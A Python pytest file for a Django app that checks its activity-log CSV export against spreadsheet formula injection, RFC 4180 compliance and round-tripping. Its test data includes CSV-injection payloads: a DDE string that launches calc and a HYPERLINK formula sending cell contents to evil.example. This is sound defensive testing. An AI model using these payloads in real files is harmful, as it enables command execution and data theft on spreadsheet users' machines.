"""Row 23: the activity as CSV, with 25 names that a spreadsheet would take for formulas: 0 cells begin one, whether the file is cut at
commas, semicolons or tabs, as different locales do. It is RFC 4180, and every text is found again. There is no LibreOffice here; each
cell is looked at."""

import csv
import io
import random

import pytest
from django.test import Client

from datasets_ui.models import Act, Actor, Target, Workspace
from datasets_ui.services.audit import record
from datasets_ui.tables.cells import cell
from datasets_ui.views.activity.events import COLUMNS
from tests.support.stage import url

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEGINNINGS = (*SIGNS, "\t", "\r", "\n")
COMMAND = "cmd|'/C calc'!A0"
NAMES = [
    *(f"{begin}{COMMAND}" for begin in BEGINNINGS),
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "@SUM(1+1)*" + COMMAND,
    '","=1+1',
    '"\r\n=1+1',
    'a"",=1+1',
    "a;=1+1",
    'a;"=1+1',
    "a\t=1+1",
    "a\n=1+1",
    "a\r=1+1",
    " =1+1",
    '"=1+1"',
    "\x00=1+1",
    "'=1+1",
]
SEPARATORS = [",", ";", "\t"]


def recorded(workspace: Workspace, names: list[str]) -> None:
    for name in names:
        name = name.replace("\0", "")  # which no database of ours would take
        record(
            by=Actor(name, name[:45]),
            workspace=workspace,
            act=Act.DATASET_CREATE,
            target=Target(name[:60], name),
            before=name,
            after=name,
        )


def exported(client: Client) -> str:
    return str(client.get(url("activity-csv")).getvalue().decode())


def rows(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def formulas(text: str, separator: str) -> list[str]:
    """What begins with such a sign, or would if white space and quotes were taken away."""
    return [cell for row in rows(text, separator) for cell in row if cell.lstrip(' "\t\r\n').startswith(SIGNS)]


def test_tabs_and_line_ends_do_not_come_first_either(owner: Client, workspace: Workspace) -> None:
    recorded(workspace, NAMES)
    assert [cell for row in rows(exported(owner)) for cell in row if cell.startswith(BEGINNINGS)] == []


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_begins_a_formula(owner: Client, workspace: Workspace, separator: str) -> None:
    recorded(workspace, NAMES)
    assert formulas(exported(owner), separator) == []


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_of_a_hundred_odd_ones_does(owner: Client, workspace: Workspace, separator: str) -> None:
    chance = random.Random(23)
    recorded(workspace, ["".join(chance.choices("=+-@\t\r\n;,\"' a", k=8)) for _ in range(100)])
    assert formulas(exported(owner), separator) == []


def test_it_is_rfc_4180(owner: Client, workspace: Workspace) -> None:
    """Each record ends with CRLF and has all cells; cells with commas, quotes or line ends are quoted, and quotes doubled."""
    recorded(workspace, NAMES)
    text = exported(owner)
    assert (text.endswith("\r\n"), {len(row) for row in rows(text)}, len(rows(text))) == (True, {len(COLUMNS)}, len(NAMES) + 1)
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == rows(text)


def test_every_text_is_found_again(owner: Client, workspace: Workspace) -> None:
    """Without the apostrophes that were put before what looks like a formula."""
    recorded(workspace, NAMES)
    shown = [dict(zip(COLUMNS, row, strict=True))["after"] for row in rows(exported(owner))[1:]]
    assert [text.replace("'", "") for text in reversed(shown)] == [name.replace("'", "").replace("\0", "") for name in NAMES]


@pytest.mark.parametrize(
    "plain", ["Handbook", "2026-11-22T10:00:00+00:00", "a-b", "a = b", "mail@example.com", "", "#3", "1.5", "name: x; note: y"]
)
def test_what_looks_like_no_formula_stays_as_it_is(plain: str) -> None:
    assert cell(plain) == plain


def test_a_browser_saves_it_and_does_not_show_it(owner: Client, workspace: Workspace) -> None:
    headers = owner.get(url("activity-csv")).headers
    assert headers["Content-Disposition"].startswith('attachment; filename="activity-acme-')
    assert (headers["Content-Type"], headers["X-Content-Type-Options"]) == ("text/csv; charset=utf-8", "nosniff")
